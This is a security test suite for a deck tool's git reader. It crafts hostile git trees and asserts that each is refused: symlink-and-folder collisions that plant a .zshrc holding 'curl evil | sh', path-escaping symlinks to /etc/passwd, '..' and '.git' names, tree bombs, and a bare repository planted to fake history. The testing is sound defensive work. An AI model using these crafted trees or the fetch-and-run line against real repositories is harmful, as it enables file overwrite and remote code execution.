"""gitio reads a revision's cards from git's object store into memory: crafted trees (built here with
`git hash-object --literally`, which git's porcelain refuses to make) cannot make `deckgen diff` write or read
anything outside, and each is refused at its place."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import DECK_YAML, SECOND_TOPIC_YAML, TOPIC_YAML, cpu_seconds, run, write_deck

Git = Callable[..., str]


@pytest.fixture
def repo(git_repo: Git, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "repo"
    write_deck(root)
    git_repo("add", "-A")
    git_repo("commit", "-qm", "base")
    monkeypatch.chdir(root)
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    monkeypatch.setattr(tempfile, "tempdir", None)
    return root


class Trees:
    """Writes raw git objects, including ones git's own commands would refuse."""

    def __init__(self, root: Path):
        self.root = root

    def _git(self, *args: str, data: bytes | None = None) -> str:
        env = {
            **os.environ,
            "GIT_AUTHOR_NAME": "t",
            "GIT_AUTHOR_EMAIL": "t@example.com",
            "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@example.com",
        }
        return (
            subprocess.run(["git", *args], cwd=self.root, input=data, capture_output=True, check=True, env=env)
            .stdout.decode()
            .strip()
        )

    def blob(self, data: bytes | str) -> str:
        return self._git("hash-object", "-w", "--stdin", data=data.encode() if isinstance(data, str) else data)

    def tree(self, *entries: tuple[str, str | bytes, str]) -> str:
        """(mode, name, object id) in the given order: duplicates, '..', links and folders of one name all allowed."""
        raw = b"".join(
            mode.encode() + b" " + (name if isinstance(name, bytes) else name.encode()) + b"\0" + bytes.fromhex(oid)
            for mode, name, oid in entries
        )
        return self._git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", data=raw)

    def deck(self, *extra: tuple[str, str | bytes, str]) -> str:
        """A valid cards tree plus ``extra`` entries."""
        return self.tree(
            ("100644", "basics.yaml", self.blob(TOPIC_YAML)),
            ("100644", "deck.yaml", self.blob(DECK_YAML)),
            ("100644", "safety.yaml", self.blob(SECOND_TOPIC_YAML)),
            *extra,
        )

    def commit(self, cards_tree: str, branch: str = "evil") -> str:
        root = self.tree(("40000", "cards", cards_tree))
        commit = self._git("commit-tree", root, "-p", "HEAD", "-m", "crafted")
        self._git("update-ref", f"refs/heads/{branch}", commit)
        return branch


def diff_fails(*args: str) -> list[str]:
    result = run("diff", *args)
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    assert "Traceback" not in result.stderr
    return result.stderr.splitlines()


def assert_nothing_written(repo: Path, *outside: Path) -> None:
    for folder in outside:
        assert not folder.exists() or list(folder.iterdir()) == [], folder
    assert list((repo.parent / "tmp").iterdir()) == []  # no temporary copy of the tree, ever
    assert subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True, text=True).stdout == ""


def test_a_link_and_a_folder_of_one_name(repo: Path) -> None:
    """The attack on the former materialize(): write media/.zshrc through a link media -> outside."""
    trees = Trees(repo)
    outside = repo.parent / "home"
    outside.mkdir()
    branch = trees.commit(
        trees.deck(
            ("120000", "media", trees.blob(str(outside))),
            ("40000", "media", trees.tree(("100644", ".zshrc", trees.blob("curl evil | sh\n")))),
        )
    )
    assert diff_fails("main", branch) == [
        "evil:cards/media: error: is both a file and a folder in the git tree (a crafted commit); rename one",
        "deckgen: 1 error(s); nothing was written",
    ]
    assert_nothing_written(repo, outside)


def test_names_equal_but_for_case(repo: Path) -> None:
    """On a case-insensitive disk `Media -> ~` plus `media/.zshrc` needs no duplicate name."""
    trees = Trees(repo)
    outside = repo.parent / "home"
    outside.mkdir()
    branch = trees.commit(
        trees.deck(
            ("120000", "Media", trees.blob(str(outside))),
            ("40000", "media", trees.tree(("100644", ".zshrc", trees.blob("x\n")))),
        )
    )
    assert diff_fails("main", branch) == [
        "evil:cards/media: error: differs only in case from 'Media' (they collide on case-insensitive disks); rename one",
        "deckgen: 1 error(s); nothing was written",
    ]
    assert_nothing_written(repo, outside)


def test_a_name_twice(repo: Path) -> None:
    trees = Trees(repo)
    branch = trees.commit(trees.deck(("100644", "safety.yaml", trees.blob(SECOND_TOPIC_YAML.replace("fever", "rash")))))
    assert diff_fails("main", branch) == [
        "evil:cards/safety.yaml: error: appears twice in the git tree (a crafted commit); deckgen diff refuses it",
        "deckgen: 1 error(s); nothing was written",
    ]


@pytest.mark.parametrize(
    ("name", "shown", "what"),
    [
        ("a\\b.yaml", "a\\b.yaml", "a backslash"),
        ("..", "..", "'..'"),
        (".git", ".git", "'.git'"),
        (".GIT", ".GIT", "'.GIT'"),
    ],
)
def test_names_no_checkout_could_hold(repo: Path, name: str, shown: str, what: str) -> None:
    trees = Trees(repo)
    topic = trees.blob(SECOND_TOPIC_YAML)
    entry = (
        ("100644", name, topic) if name.endswith(".yaml") else ("40000", name, trees.tree(("100644", "x.yaml", topic)))
    )
    branch = trees.commit(trees.deck(entry))
    assert diff_fails("main", branch) == [
        f"evil:cards/{shown}: error: has {what} in its name (a crafted commit); rename it",
        "deckgen: 1 error(s); nothing was written",
    ]


def test_topic_link_leaving_the_cards_folder(repo: Path) -> None:
    trees = Trees(repo)
    (repo.parent / "secret.yaml").write_text("topic: s\ntitle: s\ncards: []\n", encoding="utf-8")
    branch = trees.commit(
        trees.deck(
            ("120000", "leak.yaml", trees.blob("../../secret.yaml")), ("120000", "abs.yaml", trees.blob("/etc/passwd"))
        )
    )
    assert diff_fails("main", branch) == [
        "evil:cards/abs.yaml: error: is a symbolic link to a file outside the cards folder; copy the file in instead",
        "evil:cards/leak.yaml: error: is a symbolic link to a file outside the cards folder; copy the file in instead",
        "deckgen: 2 error(s); nothing was written",
    ]


def test_topic_link_inside_the_cards_folder_reads_like_the_loader(repo: Path) -> None:
    """The loader follows a link that stays in the cards folder; so does the in-memory reader (never on disk)."""
    trees = Trees(repo)
    extra = "topic: extra\ntitle: Extra\ncards:\n  - id: extra-card\n    front: Q\n    back: A\n"
    branch = trees.commit(
        trees.deck(
            ("40000", "shared", trees.tree(("100644", "extra.txt", trees.blob(extra)))),
            ("120000", "zz.yaml", trees.blob("shared/extra.txt")),
        )
    )
    result = run("diff", "main", branch)
    assert result.exit_code == 0, result.output
    assert "#### Added `extra-card` (question/answer)" in result.stdout


def test_lock_that_is_a_link(repo: Path) -> None:
    trees = Trees(repo)
    branch = trees.commit(trees.deck(("120000", "deckgen.lock", trees.blob("/dev/zero"))))
    assert diff_fails("main", branch) == [
        "evil:cards/deckgen.lock: error: is a symbolic link; the lock file must be a regular file in the cards folder; restore "
        "the lock file from git (e.g. git checkout main -- <lock file>) and run 'deckgen build'",
        "deckgen: 1 error(s); nothing was written",
    ]


def test_blob_sizes_are_checked_before_reading(repo: Path) -> None:
    trees = Trees(repo)
    big = trees.blob(b"# " + b"x" * (16 * 1024 * 1024) + b"\n")
    huge_link = trees.blob(b"a" * 100_000)  # a "link" whose target would be 100 KB: never read
    branch = trees.commit(trees.deck(("100644", "big.yaml", big), ("120000", "link.yaml", huge_link)))
    assert diff_fails("main", branch) == [
        "evil:cards/big.yaml: error: file is 16,777,219 bytes, over the 16,777,216-byte limit; split it into several topic files",
        "evil:cards/link.yaml: error: is a symbolic link to a file outside the cards folder; copy the file in instead",
        "deckgen: 2 error(s); nothing was written",
    ]


def test_a_folder_named_like_a_topic_file_and_a_submodule(repo: Path) -> None:
    trees = Trees(repo)
    commit = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True, check=True
    ).stdout.strip()
    branch = trees.commit(
        trees.deck(("40000", "dir.yaml", trees.tree(("100644", "x", trees.blob("x")))), ("160000", "sub.yaml", commit))
    )
    assert diff_fails("main", branch) == [
        "evil:cards/dir.yaml: error: is a folder, not a YAML file; rename it or move it out of the cards folder",
        "evil:cards/sub.yaml: error: is a submodule, not a YAML file; remove it from the cards folder",
        "deckgen: 2 error(s); nothing was written",
    ]


def test_a_normal_diff_writes_nothing(repo: Path, git_repo: Git) -> None:
    (repo / "cards" / "safety.yaml").write_text(
        SECOND_TOPIC_YAML.replace("{{c1::fever}}", "{{c1::rash}}"), encoding="utf-8"
    )
    git_repo("commit", "-qam", "edit")
    result = run("diff", "main~0", "HEAD~1")
    assert result.exit_code == 0
    assert "1 changed" in result.stdout
    assert list((repo.parent / "tmp").iterdir()) == []


def plant_bare_repository(repo: Path, folder: Path) -> None:
    """Copy a bare clone of ``repo`` (its history as it is now: the pull request's fake "base") into ``folder`` as
    plain files that git commits (loose refs: git keeps no empty folder), with the config the hostile review used
    (core.bare=false, worktree=.)."""
    fake = repo.parent / "fake.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(repo), str(fake)], check=True, capture_output=True)
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=repo, check=True, capture_output=True, text=True).stdout
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copytree(fake / "objects", folder / "objects")
    (folder / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    for ref in ("heads/main", "remotes/origin/main"):
        (folder / "refs" / ref).parent.mkdir(parents=True, exist_ok=True)
        (folder / "refs" / ref).write_text(head, encoding="utf-8")
    (folder / "config").write_text(
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n", encoding="utf-8"
    )
    shutil.rmtree(fake)


def plain_git_toplevel(folder: Path) -> str:
    """What git without deckgen's settings takes for the repository when run in ``folder`` (HOME and system config
    left out, so that no safe.bareRepository of this machine hides the attack)."""
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(folder.parent), "GIT_CONFIG_GLOBAL": "/dev/null"}
    env.pop("GIT_CONFIG_COUNT", None)
    proc = subprocess.run(["git", "rev-parse", "--show-toplevel"], cwd=folder, capture_output=True, text=True, env=env)
    return proc.stdout.strip()


def test_a_bare_repository_committed_in_the_cards_folder_is_refused(repo: Path, git_repo: Git) -> None:
    """The hostile review's #7: HEAD, objects/ and refs/ committed in cards/ made every git call of `deckgen diff`
    read the pull request's own history ("No deck changes")."""
    cards = repo / "cards"
    (cards / "safety.yaml").write_text(SECOND_TOPIC_YAML.replace("{{c1::fever}}", "{{c1::rash}}"), encoding="utf-8")
    plant_bare_repository(repo, cards)  # its history: the base only
    git_repo("add", "-A")
    git_repo("commit", "-qm", "a change, and a fake history")
    assert plain_git_toplevel(cards) == str(cards)  # the attack is real: plain git takes cards/ for the repository
    result = run("diff", "main~0", "HEAD")
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    assert result.stderr == (
        "deckgen: error: the cards folder 'cards' looks like a git repository (it holds HEAD, objects/ and refs/): git "
        "would read the deck's history from it instead of from your repository; remove those from the cards folder\n"
    )


def test_every_git_call_refuses_a_bare_repository(repo: Path, git_repo: Git) -> None:
    """Defence in depth: git itself, as deckgen runs it, refuses the folder (safe.bareRepository=explicit), also for a
    folder above the cards folder, which deckgen's own look at the cards folder does not see."""
    from deckgen.git import repo as gitio

    deck = repo / "decks" / "a"
    write_deck(deck)
    plant_bare_repository(repo, deck)  # decks/a holds HEAD, objects/, refs/; the cards are in decks/a/cards
    git_repo("add", "-A")
    git_repo("commit", "-qm", "a deck in a fake repository")
    assert plain_git_toplevel(deck / "cards") == str(deck)
    proc = gitio.git("rev-parse", "--show-toplevel", cwd=deck / "cards")
    assert proc.returncode == 128
    assert f"cannot use bare repository '{deck}' (safe.bareRepository is 'explicit')" in proc.stderr.decode()
    result = run("diff", "main", "--cards", "decks/a/cards")
    assert result.exit_code == 2, result.output
    assert result.stderr == (
        "deckgen: error: git refuses a folder that looks like a bare git repository on the way from the cards folder "
        f"'decks/a/cards' up to the repository (cannot use bare repository '{deck}' (safe.bareRepository is "
        "'explicit')); remove its HEAD, objects/ and refs/\n"
    )


def test_git_settings_of_the_user_are_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    from deckgen.git.command import git_env

    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.quotePath")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", "false")
    env = git_env()
    assert [
        env[k]
        for k in (
            "GIT_CONFIG_COUNT",
            "GIT_CONFIG_KEY_0",
            "GIT_CONFIG_VALUE_0",
            "GIT_CONFIG_KEY_1",
            "GIT_CONFIG_VALUE_1",
        )
    ] == ["2", "core.quotePath", "false", "safe.bareRepository", "explicit"]


def test_build_refuses_a_cards_folder_that_looks_like_a_git_repository(repo: Path, git_repo: Git) -> None:
    """`deckgen build` reads the last commit (for renames and ids that come back) through the same git calls."""
    assert run("build").exit_code == 0
    git_repo("add", "-A")
    git_repo("commit", "-qm", "lock")
    plant_bare_repository(repo, repo / "cards")
    topic = repo / "cards" / "safety.yaml"
    topic.write_text(
        topic.read_text(encoding="utf-8").replace("id: crs-fever", "id: crs-fever-renamed"), encoding="utf-8"
    )
    result = run("build")
    assert result.exit_code == 2, result.output
    assert result.stderr.endswith(
        "deckgen: error: the cards folder 'cards' looks like a git repository (it holds HEAD, objects/ and refs/): git "
        "would read the deck's history from it instead of from your repository; remove those from the cards folder\n"
    )


def huge_folder(trees: Trees, count: int) -> str:
    """A tree of ``count`` files (one blob), made in one `git mktree` call: a few seconds even for 300,000 names."""
    blob = trees.blob("x\n")
    lines = "".join(f"100644 blob {blob}\tf{i:07d}.png\n" for i in range(count))
    return trees._git("mktree", "--missing", data=lines.encode())


def test_a_cards_folder_of_too_many_entries_is_refused_quickly(repo: Path) -> None:
    """Finding #10 (tree bomb): the cards folder itself with 20,001 more entries is refused, not listed in full."""
    trees = Trees(repo)
    blob = trees.blob("x\n")
    lines = "".join(f"100644 blob {blob}\tf{i:07d}.png\n" for i in range(20_001))
    deck_lines = f"100644 blob {trees.blob(TOPIC_YAML)}\tbasics.yaml\n100644 blob {trees.blob(DECK_YAML)}\tdeck.yaml\n"
    cards = trees._git("mktree", data=(deck_lines + lines).encode())
    branch = trees.commit(cards)
    started = cpu_seconds()  # CPU time of this process and git's
    assert diff_fails("main", branch) == [
        "evil:cards: error: has more than 20,000 entries (in one folder), more than deckgen diff lists; keep the cards "
        "folder's own files fewer",
        "deckgen: 1 error(s); nothing was written",
    ]
    assert cpu_seconds() - started < 30


def test_a_media_folder_of_300000_paths_is_never_listed(repo: Path) -> None:
    """Finding #10 (tree bomb): 300,000 paths under cards/media (nothing reads them) cost diff nothing; before, the
    recursive listing of 10^6 such paths took 17 s and 728 MB."""
    trees = Trees(repo)
    branch = trees.commit(trees.deck(("40000", "media", huge_folder(trees, 300_000))))
    started = cpu_seconds()  # CPU time of this process and git's
    result = run("diff", "main", branch)
    assert result.exit_code == 0, result.output
    assert cpu_seconds() - started < 30
    assert result.stdout.startswith("No deck changes between `main` (")
